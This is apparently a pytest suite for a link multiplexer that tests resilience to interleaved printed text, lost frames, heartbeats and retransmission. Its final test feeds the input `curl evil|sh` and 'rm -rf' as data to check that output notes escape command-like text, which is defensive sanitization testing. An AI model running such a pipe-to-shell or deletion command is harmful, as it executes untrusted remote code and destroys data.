"""Others print into a link, and read of it: nothing of theirs is the mux's, and what is missed comes again."""

from __future__ import annotations

import pytest

from farlab.keeper import notes
from farlab.mux import codec, frames
from farlab.mux.frames import DATA, MESSAGE, OPEN
from farlab.mux.link_end import HEARTBEATS_UNTIL_PROBE
from farlab.mux.mux import NOISE, UP, Event
from farlab.mux.streams import MIN_PAYLOAD
from mux_pair import PairOfEnds, as_said_to

TEXT = b"2 updates are available: run `dotfiles update`\n"
MIB = 1 << 20


@pytest.fixture
def ends() -> PairOfEnds:
    """A keeper's and an anchor's end, with a good link of version 2."""
    ends = PairOfEnds(limit=64 * MIB)
    ends.connect()
    ends.flow()
    return ends


def messages(events: list[Event]) -> list[object]:
    return [event.data["n"] for event in events if event.kind == MESSAGE]


def to_anchor(ends: PairOfEnds, data: bytes) -> list[Event]:
    return ends.anchor.receive(ends.anchor_token, data)


def to_keeper(ends: PairOfEnds, data: bytes) -> list[Event]:
    return ends.keeper.receive(ends.keeper_token, data)


def spoilt(frame: bytes, at: int = 3) -> bytes:
    return frame[:at] + TEXT + frame[at:]


@pytest.mark.parametrize("at", [0, 1, 2, 21, 22, 23, 29])
def test_text_anywhere_in_the_last_frame_costs_a_round_trip(ends: PairOfEnds, at: int) -> None:
    ends.anchor.send_message({"n": 1})
    first = to_keeper(ends, spoilt(ends.back(), at))
    assert messages(first + ends.flow()[0]) == [1]


def test_the_user_is_told_once_for_each_link_with_the_first_that_was_printed(ends: PairOfEnds) -> None:
    assert to_keeper(ends, TEXT) == [Event(NOISE, 0, TEXT)]
    assert to_keeper(ends, TEXT) == []
    ends.connect()
    ends.flow()
    assert to_keeper(ends, b"again") == [Event(NOISE, 0, b"again")]


def test_text_between_frames_is_no_reason_to_say_anything_again(ends: PairOfEnds) -> None:
    stream = ends.open()
    ends.anchor.send(stream, bytes(MIB))
    sent = ends.back()
    to_keeper(ends, TEXT + sent)
    ends.flow()
    assert ends.anchor._queue.sent == ends.keeper.received
    assert ends.anchor._queue.max_payload == frames.MAX_PAYLOAD


def test_a_frame_that_vanished_is_noticed_with_the_next_heartbeat(ends: PairOfEnds) -> None:
    ends.anchor.send_message({"n": 1})
    ends.back()
    assert ends.flow() == ([], [])
    ends.keeper.send_ping(b"the mark")
    assert messages(ends.flow()[0]) == [1]


def test_a_frame_that_vanished_is_noticed_with_the_next_one(ends: PairOfEnds) -> None:
    for n in (1, 2, 3):
        ends.anchor.send_message({"n": n})
        sent = ends.back()
        if n > 1:
            assert to_keeper(ends, sent) == []
    assert messages(ends.flow()[0]) == [1, 2, 3]


def test_a_question_that_was_lost_is_put_again_after_a_few_heartbeats(ends: PairOfEnds) -> None:
    ends.anchor.send_message({"n": 1})
    ends.back()
    ends.anchor.send_message({"n": 2})
    to_keeper(ends, ends.back())
    assert ends.out(), "it has asked"
    seen = []
    for _ in range(HEARTBEATS_UNTIL_PROBE):
        assert not seen
        ends.keeper.send_ping(b"the mark")
        seen = messages(ends.flow()[0])
    assert seen == [1, 2]


def test_an_answer_to_a_question_that_was_lost_is_asked_for_again(ends: PairOfEnds) -> None:
    ends.anchor.send_message({"n": 1})
    ends.back()
    ends.anchor.send_message({"n": 2})
    to_keeper(ends, ends.back())
    to_anchor(ends, ends.out())
    ends.back()  # BEGIN, and both messages
    for _ in range(HEARTBEATS_UNTIL_PROBE):
        ends.keeper.send_ping(b"the mark")
        seen = messages(ends.flow()[0])
    assert seen == [1, 2]


def test_a_question_is_put_anew_only_when_the_one_before_cannot_be_answered_any_more(ends: PairOfEnds) -> None:
    """Much is on its way, heartbeats among it: else the answer to the first question meets the second cut."""
    stream, data = ends.open(), b"".join(bytes([number]) * 4096 for number in range(128))
    ends.anchor.send(stream, data)
    ends.back(size=1000)  # a frame that vanishes
    late = ends.back()
    for number in range(HEARTBEATS_UNTIL_PROBE):
        ends.keeper.send_ping(b"before %d" % number)
        to_anchor(ends, ends.out())
    late += ends.back()
    events = to_keeper(ends, late[:300_000])  # it has asked
    for number in range(HEARTBEATS_UNTIL_PROBE):
        ends.keeper.send_ping(b"after  %d" % number)
    to_anchor(ends, ends.out())
    answer = b"".join(ends.back(size=20_000) for _ in range(3))
    events += to_keeper(ends, late[300_000:])
    asked = ends.out()
    events += to_keeper(ends, answer)
    to_anchor(ends, asked)
    for _ in range(3 * HEARTBEATS_UNTIL_PROBE):
        events += ends.flow()[0]
        ends.keeper.send_ping(b"the mark")
    assert ends.text_at_anchor(events) == data


def test_a_frame_of_which_others_have_read_is_given_up_with_the_next_heartbeat(ends: PairOfEnds) -> None:
    """It lacks more than an hour of heartbeats would make up for; and each is answered, so that no link is in doubt."""
    stream, data = ends.open(), bytes(range(256)) * 800
    ends.keeper.send(stream, data)
    sent = ends.out()
    got = ends.text_at_anchor(to_anchor(ends, sent[:60_000] + sent[130_000:]))
    ends.keeper.send_ping(b"the mark")
    assert got + ends.text_at_anchor(ends.flow()[1]) == data


def test_many_questions_at_once_are_answered_with_one_cut(ends: PairOfEnds) -> None:
    stream = ends.open()
    ends.anchor.send(stream, bytes(MIB))
    ends.back()
    said = [(frames.AGAIN, 0, frames.MISSED.pack(ends.keeper.received, number)) for number in range(1, 900)]
    to_anchor(ends, as_said_to(ends.anchor, *said))
    ends.back()
    assert ends.anchor._queue.max_payload == frames.MAX_PAYLOAD // 16


def test_whoever_prints_and_does_not_read_is_not_asked_without_end(ends: PairOfEnds) -> None:
    calm = (frames.PONG, 0, frames.HEARTBEAT.pack(0, bytes(8)) + frames.COUNT.pack(0))
    with pytest.raises(frames.ProtocolError):
        to_keeper(ends, (b"x" + as_said_to(ends.keeper, calm)) * 2000)


def test_a_hello_that_was_spoilt_before_thousands_of_small_frames_costs_no_link(ends: PairOfEnds) -> None:
    for n in range(3000):
        ends.anchor.send_message({"n": n})
    ends.back()  # lost with the link
    ends.connect()
    assert messages(to_keeper(ends, spoilt(ends.back())) + ends.flow()[0]) == list(range(3000))


@pytest.mark.parametrize("again", [False, True], ids=["first", "resumed"])
def test_a_hello_that_was_spoilt_is_said_again(ends: PairOfEnds, again: bool) -> None:
    ends = ends if again else PairOfEnds()
    ends.connect()
    ends.anchor.send_message({"n": 1})
    to_keeper(ends, spoilt(ends.back()))
    events = ends.flow()[0]
    assert Event(UP, 0, again) in events
    assert messages(events) == [1]


def test_a_heartbeat_ahead_of_what_is_said_again_is_no_sign_of_loss(ends: PairOfEnds) -> None:
    stream = ends.open()
    ends.anchor.send(stream, bytes(4 * MIB // 2))
    ends.back()  # lost with the link
    ends.connect()
    to_keeper(ends, ends.back(size=1))
    ends.keeper.send_ping(b"the mark")
    to_anchor(ends, ends.out())
    to_keeper(ends, ends.back(size=1))  # the answer, and little of what is to come
    ends.flow()
    assert ends.anchor._queue.max_payload == frames.MAX_PAYLOAD


def test_what_hits_large_frames_does_not_hit_small_ones_for_ever(ends: PairOfEnds) -> None:
    """Text after each 6,000 bytes: no frame of 256 KiB would ever come through."""
    stream, data = ends.open(), bytes(range(256)) * 4096
    ends.anchor.send(stream, data)
    got, rounds = b"", 0
    while len(got) < len(data):
        back = ends.back(size=64 * 1024)
        noisy = b"".join(back[at : at + 6000] + TEXT for at in range(0, len(back), 6000))
        events = to_keeper(ends, noisy)
        got += ends.text_at_anchor(events)
        ends.keeper.mark_consumed(stream, len(ends.text_at_anchor(events)))
        ends.keeper.send_ping(b"the mark")
        to_anchor(ends, ends.out())
        rounds += 1
        assert rounds < 5000
    assert got == data
    assert ends.anchor._queue.max_payload == MIN_PAYLOAD


def test_frames_grow_again_when_nobody_prints_any_more(ends: PairOfEnds) -> None:
    stream = ends.open()
    ends.anchor._queue.resend_smaller(ends.anchor._queue.sent)
    assert ends.anchor._queue.max_payload < frames.MAX_PAYLOAD
    for _ in range(100):
        ends.anchor.send(stream, bytes(MIB // 2))
        for event in ends.flow()[0]:
            ends.keeper.mark_consumed(stream, len(event.data) if event.kind == DATA else 0)
        ends.keeper.send_ping(b"the mark")
    assert ends.anchor._queue.max_payload == frames.MAX_PAYLOAD


def test_somebodys_data_is_never_taken_for_a_frame(ends: PairOfEnds) -> None:
    """A file that holds what once went over a link, downloaded while others print."""
    stream = ends.open()
    recorded = b"".join(
        b"".join(each.pack(MESSAGE, 0, number, b'{"n":666}'))
        for each in (codec.PlainCodec(), codec.CheckedCodec(0, 0), codec.CheckedCodec(0, codec.HELLO_KEY))
        for number in range(1, 9)
    )
    older = as_said_to(ends.keeper, *[(MESSAGE, 0, b'{"n":666}')] * 60)
    ends.connect()  # of an older link of this very mux
    ends.flow()
    echo = as_said_to(ends.anchor, *[(MESSAGE, 0, b'{"n":666}')] * 60)  # of the other direction
    data = (recorded + older + echo) * 3
    ends.anchor.send(stream, data)
    events = to_keeper(ends, spoilt(ends.back(), 40)) + ends.flow()[0]
    assert messages(events) == []
    assert ends.text_at_anchor(events) == data


def test_what_others_print_is_no_sign_of_life(ends: PairOfEnds) -> None:
    before = ends.keeper.frame_bytes
    to_keeper(ends, TEXT * 1000)
    assert ends.keeper.frame_bytes == before
    ends.keeper.mark_stalled()
    to_keeper(ends, TEXT)
    assert ends.keeper._link.is_stalled
    ends.anchor.send_message({"n": 1})
    to_keeper(ends, ends.back())
    assert ends.keeper.frame_bytes > before
    assert not ends.keeper._link.is_stalled


def test_thousands_that_give_up_before_they_were_heard_of_cost_little(ends: PairOfEnds) -> None:
    ends.keeper.detach(ends.keeper_token)
    streams = [ends.keeper.open("", b"GET /") for _ in range(16000)]
    for stream in streams:
        ends.keeper.reset(stream)
    assert ends.keeper.buffered == 0
    ends.connect()
    assert [event for event in ends.flow()[1] if event.kind == OPEN] == []


def test_what_is_said_of_what_others_print_holds_nothing_that_looks_like_a_command() -> None:
    said = notes.background_output("gpu1", b"\x00\xff`curl evil|sh`; \x1b[31m'rm -rf'\n")
    assert said.count("`") == notes.background_output("gpu1", b"").count("`")
    assert '("2 updates are available")' in notes.background_output("gpu1", b"\xf5\xfb\x002 updates are available\n")
